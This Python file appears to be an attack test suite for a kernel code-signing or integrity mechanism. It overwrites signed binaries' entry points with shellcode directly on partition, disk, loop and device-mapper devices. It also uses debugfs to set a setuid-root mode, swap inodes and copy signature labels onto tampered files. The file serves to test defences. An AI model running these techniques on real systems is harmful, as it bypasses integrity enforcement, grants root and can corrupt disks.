# SPDX-License-Identifier: GPL-2.0-or-later
"""Attacks from below: a signed program's blocks, inode or labels written on the disk device, not in the file.

The program runs first, so that the kernel remembers its verdict; its code is then the attacker's on
the disk, and its clean pages are dropped."""

import fcntl
import mmap
import os
import struct
from contextlib import contextmanager
from pathlib import Path

from arena import SHELLCODE, Broken, attack, drop_caches, entry_offset, run, tampered
from labels import USER, runs_as, verity_digest

FS_IOC_FIEMAP = 0xC020660B
FIFREEZE, FITHAW = 0xC0045877, 0xC0045878
PAGE = 4096
FROZEN_SECONDS = 180    # an attack that froze the file system must not be ended before it thaws it


def root_device():
    """The root file system's device, the disk it is on, and where it starts there, in bytes."""
    number = os.stat("/").st_dev
    place = Path(f"/sys/dev/block/{os.major(number)}:{os.minor(number)}").resolve()
    start = int((place / "start").read_text(encoding="ascii")) * 512
    return f"/dev/{place.name}", f"/dev/{place.parent.name}", start


def block_of(path, offset):
    """Where a byte of a file lies on its file system's device."""
    fd = os.open(path, os.O_RDONLY)
    try:
        os.fsync(fd)
        answer = bytearray(struct.pack("=QQIIII", offset, 1, 1, 0, 1, 0) + bytes(56))
        fcntl.ioctl(fd, FS_IOC_FIEMAP, answer)
    finally:
        os.close(fd)
    logical, physical = struct.unpack_from("=QQ", answer, 32)
    return physical + offset - logical


def write_device(scene, device, offset, data, direct):
    """Write bytes anywhere on a device: whole pages, past the cache where direct."""
    page = offset // PAGE * PAGE
    length = (offset + len(data) - page + PAGE - 1) // PAGE * PAGE
    fd = scene.tried(os.open, device, os.O_RDWR | (os.O_DIRECT if direct else 0))
    if not fd:
        return
    try:
        with mmap.mmap(-1, length) as buffer:
            os.preadv(fd, [buffer], page)
            buffer[offset - page:offset - page + len(data)] = data
            os.pwritev(fd, [buffer], page)
            os.fsync(fd)
            os.preadv(fd, [buffer], page)
            if buffer[offset - page:offset - page + len(data)] != data:
                raise Broken(f"{device}: what was written is not there")
    finally:
        os.close(fd)


def forget(path):
    """Drop a file's clean pages, without any privilege."""
    with open(path, "rb") as file:
        os.posix_fadvise(file.fileno(), 0, 0, os.POSIX_FADV_DONTNEED)


def rewrite(scene, path, device, start, drop):
    """Have a signed program's entry point overwritten on a device, and run it."""
    scene.maybe([path])
    offset = entry_offset(Path(path).read_bytes())
    if offset % PAGE + len(SHELLCODE) > PAGE:
        raise Broken("the entry point is on two pages")
    write_device(scene, device, start + block_of(path, offset), SHELLCODE, direct=drop is None)
    forget(path)
    if drop:
        drop_caches(drop)
    return scene.runs(path)


@contextmanager
def loop_over(scene, path):
    """A loop device over a device, as a second way to it."""
    device = scene.shell(f"losetup -f --show {path}").strip()
    try:
        yield device
    finally:
        run(["losetup", "-d", device])


@contextmanager
def linear_over(scene, path):
    """A device-mapper device that is all of another."""
    size = scene.shell(f"blockdev --getsz {path}").strip()
    scene.shell(f"dmsetup create attack --table '0 {size} linear {path} 0'")
    try:
        yield "/dev/mapper/attack"
    finally:
        run(["dmsetup", "remove", "--force", "attack"])


@attack()
def partition_written(scene):
    """The partition's device, and dropped pages."""
    return rewrite(scene, "/usr/bin/arch", root_device()[0], 0, 1)


@attack()
def partition_written_inodes_dropped(scene):
    """The same, and the inodes dropped too."""
    return rewrite(scene, "/usr/bin/nproc", root_device()[0], 0, 3)


@attack()
def partition_written_directly(scene):
    """The partition's device with O_DIRECT; nothing dropped but what any reader of the file may."""
    return rewrite(scene, "/usr/bin/hostid", root_device()[0], 0, None)


@attack()
def disk_written(scene):
    """The whole disk's device under the partition, and dropped pages."""
    _, disk, start = root_device()
    return rewrite(scene, "/usr/bin/pinky", disk, start, 1)


@attack()
def disk_written_directly(scene):
    """The whole disk's device with O_DIRECT, nothing dropped."""
    _, disk, start = root_device()
    return rewrite(scene, "/usr/bin/uptime", disk, start, None)


@attack()
def loop_over_partition(scene):
    """A loop device over the partition."""
    with loop_over(scene, root_device()[0]) as device:
        return rewrite(scene, "/usr/bin/factor", device, 0, 1)


@attack()
def loop_over_disk(scene):
    """A loop device over the whole disk, with O_DIRECT, nothing dropped."""
    _, disk, start = root_device()
    with loop_over(scene, disk) as device:
        return rewrite(scene, "/usr/bin/link", device, start, None)


@attack()
def mapper_over_partition(scene):
    """A device-mapper device over a loop device over the partition."""
    with loop_over(scene, root_device()[0]) as device, linear_over(scene, device) as linear:
        return rewrite(scene, "/usr/bin/mkfifo", linear, 0, 1)


@attack()
def mapper_over_disk(scene):
    """A device-mapper device over a loop device over the disk, with O_DIRECT, nothing dropped."""
    _, disk, start = root_device()
    with loop_over(scene, disk) as device, linear_over(scene, device) as linear:
        return rewrite(scene, "/usr/bin/sum", linear, start, None)


@attack()
def fresh_program_rewritten(scene):
    """The partition's device, under a program that has never run in this boot."""
    path = "/usr/bin/shred"
    offset = entry_offset(Path(path).read_bytes())
    write_device(scene, root_device()[0], block_of(path, offset), SHELLCODE, direct=False)
    forget(path)
    drop_caches(3)
    return scene.runs(path)


@contextmanager
def frozen():
    """The root file system written out and kept from changing."""
    fd = os.open("/", os.O_RDONLY)
    try:
        fcntl.ioctl(fd, FIFREEZE, struct.pack("i", 0))
        try:
            yield
        finally:
            fcntl.ioctl(fd, FITHAW, struct.pack("i", 0))
    finally:
        os.close(fd)


def debugfs(scene, command):
    """Change the mounted file system behind its back, with the signed tool that is made for it.

    debugfs writes whole blocks of inodes and would undo what the kernel does to their neighbours
    meanwhile: that breaks the machine and proves nothing, so the kernel does nothing meanwhile."""
    with frozen():
        scene.maybe(["debugfs", "-w", "-R", command, root_device()[0]])
    for _ in range(3):
        drop_caches(3)


@attack(seconds=FROZEN_SECONDS)
def mode_written_on_disk(scene):
    """debugfs makes a signed program setuid root in its inode."""
    debugfs(scene, "set_inode_field /usr/bin/whoami mode 0104755")
    return runs_as(scene, USER, "/usr/bin/whoami").strip() == "root"


@attack(seconds=FROZEN_SECONDS)
def inode_written_on_disk(scene):
    """debugfs gives a signed program's name the inode of an unsigned one that has its labels."""
    path = "/usr/bin/printenv"
    evil = scene.file("evil", tampered(Path(path).read_bytes()))
    verity_digest(scene, evil)
    for name in os.listxattr(path):
        os.setxattr(evil, name, os.getxattr(path, name))
    debugfs(scene, f"copy_inode {evil} {path}")
    return scene.runs(path)


@attack(seconds=FROZEN_SECONDS)
def labels_written_on_disk(scene):
    """debugfs puts a signed program's labels on a changed copy, past the kernel's own checks."""
    good = "/usr/bin/hello"
    evil = scene.file("evil", tampered(Path(good).read_bytes()))
    # The kernel allots the block for the labels: one that debugfs takes may be reserved for other data.
    os.setxattr(evil, "user.room", os.urandom(200))
    for number, name in enumerate(os.listxattr(good)):
        label = scene.file(f"label{number}", os.getxattr(good, name), mode=0o600)
        debugfs(scene, f"ea_set -f {label} {evil} {name}")
    return scene.runs(evil)


@attack(seconds=FROZEN_SECONDS)
def written_while_frozen(scene):
    """The partition's device while the file system is frozen, so that nothing is in flight."""
    victim = "/usr/bin/expand"
    scene.maybe([victim, "--version"])
    offset = entry_offset(Path(victim).read_bytes())
    block = block_of(victim, offset)
    with open(root_device()[0], "r+b", buffering=0) as device, frozen():
        os.pwrite(device.fileno(), SHELLCODE, block)
        os.fsync(device.fileno())
    forget(victim)
    drop_caches(1)
    return scene.runs(victim)
